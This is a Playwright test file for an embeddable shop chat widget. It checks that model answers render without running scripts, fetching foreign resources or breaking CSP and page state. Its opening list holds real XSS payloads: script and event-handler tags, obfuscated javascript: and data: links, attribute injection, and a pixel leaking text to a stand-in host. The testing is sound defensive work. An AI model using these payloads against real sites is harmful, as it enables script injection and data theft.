import type { Page } from "playwright";
import { expect, test } from "./support/fixtures.ts";
import { streamed } from "./support/upstream-script.ts";

test.use({ answersFrom: "upstream" });

/** What a model can be talked into saying. */
const hostileMarkdown = [
  "<script>document.title='pwned'</script>",
  "<img src=x onerror=\"document.title='pwned'\">",
  '<svg/onload="document.title=\'pwned\'"><iframe src="https://leak.example/frame"></iframe>',
  "[click me](javascript:document.title='pwned')",
  "[click me too](JaVaScRiPt&colon;document.title='pwned')",
  "[tab](java\tscript:document.title='pwned') and <javascript:document.title='pwned'>",
  "[data](data:text/html,<script>document.title='pwned'</script>) [vb](vbscript:x) [blob](blob:https://leak.example/x)",
  '![a picture](https://leak.example/pixel.png?said=everything "onload=1")',
  "![x](javascript:document.title='pwned')",
  "[quote](https://ok.example/\"onmouseover=\"document.title='pwned')",
  "`<b onclick=1>` and **<style>*{display:none}</style>**",
  "[fine](https://ok.example/page) and https://ok.example/plain",
  "The end.",
].join("\n\n");

test("hostile Markdown runs nothing, fetches nothing, and leaves no dangerous element or attribute", async ({
  chat,
  shop,
  xiaoer,
  upstream,
}) => {
  const foreign = foreignRequests(chat.page, [shop.url, xiaoer.url]);
  upstream.answerWith(() => streamed(Array.from(hostileMarkdown)));
  await chat.visit();
  const title = await chat.page.title();
  await chat.open();
  await chat.ask("Say something dangerous.");
  await expect(chat.sendButton).toBeVisible();
  await expect(chat.answer).toContainText("The end.");
  await expect(chat.answer.getByRole("link", { name: "fine" })).toHaveAttribute("href", "https://ok.example/page");

  const drawn = await chat.answer.evaluate((root) =>
    [...root.querySelectorAll("*")].map((element) => ({
      tag: element.localName,
      attributes: [...element.attributes].map(({ name, value }) => [name, value] as const),
    })),
  );
  const tags = new Set(drawn.map(({ tag }) => tag));
  for (const tag of ["script", "style", "img", "iframe", "svg", "object", "embed", "form"])
    expect(tags).not.toContain(tag);
  for (const [name, value] of drawn.flatMap(({ attributes }) => attributes)) {
    expect(name).not.toMatch(/^on|^style$|^src/);
    if (name === "href") expect(value).toMatch(/^(https?|mailto|tel):/);
  }
  for (const link of await chat.answer.getByRole("link").all()) {
    await expect(link).toHaveAttribute("rel", /noopener/);
    await expect(link).toHaveAttribute("target", "_blank");
  }
  expect(await chat.page.title()).toBe(title);
  expect(foreign).toEqual([]);
});

test.describe("under the strictest Content-Security-Policy, with Trusted Types", () => {
  test.use({ strict: true });

  test("the chat works and breaks no rule", async ({ chat, upstream }) => {
    const violations: string[] = [];
    chat.page.on("console", (message) => {
      if (message.type() === "error") violations.push(message.text());
    });
    chat.page.on("pageerror", (error) => violations.push(error.message));
    upstream.answerWith(() =>
      streamed(["**Yes**, within `7` days:\n\n1. pack\n2. send\n\n[how](https://ok.example/)"]),
    );
    const response = await chat.page.goto(chat.addressOf());
    expect(response?.headers()["content-security-policy"]).toContain("require-trusted-types-for");
    await chat.open();
    await chat.ask("Can I return it?");
    await expect(chat.sendButton).toBeVisible();
    await expect(chat.answer).toContainText("Yes, within 7 days:");
    await expect(chat.answer.getByRole("listitem")).toHaveText(["pack", "send"]);
    await expect(chat.launcher.or(chat.dialog).first()).toHaveCSS("position", "fixed");
    expect(violations).toEqual([]);
  });
});

test.describe("the shop's own page", () => {
  test("sees no error, no warning and no global but Xiaoer's own", async ({ chat }) => {
    const said: string[] = [];
    chat.page.on("console", (message) => said.push(`${message.type()}: ${message.text()}`));
    chat.page.on("pageerror", (error) => said.push(error.message));
    const before = await globalsWithout(chat.page, chat.addressOf());
    said.length = 0;
    await chat.beginWith("Can I return it?", "Yes.");
    const after = await globalsOf(chat.page);
    expect(after.filter((name) => !before.includes(name) && !name.startsWith("Xiaoer"))).toEqual([]);
    expect(said).toEqual([]);
  });

  test("gains one element beside its body, and its own look stays as it was", async ({ chat }) => {
    await chat.page.route("**/widget.js", async (route) => await route.abort());
    await chat.visit();
    const before = await lookOf(chat.page);
    await chat.page.unroute("**/widget.js");
    await chat.visit();
    await chat.open();
    const after = await lookOf(chat.page);
    expect(after).toEqual({ ...before, children: [...before.children, "xiaoer-chat"] });
    expect(await chat.page.locator("body xiaoer-chat").count()).toBe(0);
  });

  test("stores nothing before the first message", async ({ chat }) => {
    await chat.visit();
    await expect(chat.launcher).toBeVisible();
    const stored = await chat.page.evaluate(() => [localStorage.length, sessionStorage.length]);
    expect(stored).toEqual([0, 0]);
    expect((await chat.page.context().cookies()).filter(({ name }) => name !== "lang")).toEqual([]);
  });
});

/** Collects the addresses of requests that go anywhere but to these origins. */
function foreignRequests(page: Page, origins: readonly string[]): readonly string[] {
  const foreign: string[] = [];
  page.on("request", (request) => {
    if (!origins.includes(new URL(request.url()).origin)) foreign.push(request.url());
  });
  return foreign;
}

async function globalsWithout(page: Page, address: string): Promise<readonly string[]> {
  await page.route("**/widget.js", async (route) => await route.abort());
  await page.goto(address);
  const names = await globalsOf(page);
  await page.unroute("**/widget.js");
  return names;
}

async function globalsOf(page: Page): Promise<readonly string[]> {
  return await page.evaluate(() => Object.getOwnPropertyNames(window));
}

async function lookOf(page: Page): Promise<{ readonly children: readonly string[] }> {
  return await page.evaluate(() => ({
    children: [...document.documentElement.children].map((element) => element.localName),
    body: [...document.body.children].map((element) => element.localName),
    head: document.head.innerHTML,
    height: document.body.scrollHeight,
    width: document.documentElement.scrollWidth,
    font: getComputedStyle(document.body).font,
    overflow: getComputedStyle(document.body).overflow,
    html: [...document.documentElement.attributes].map(({ name, value }) => `${name}=${value}`),
  }));
}
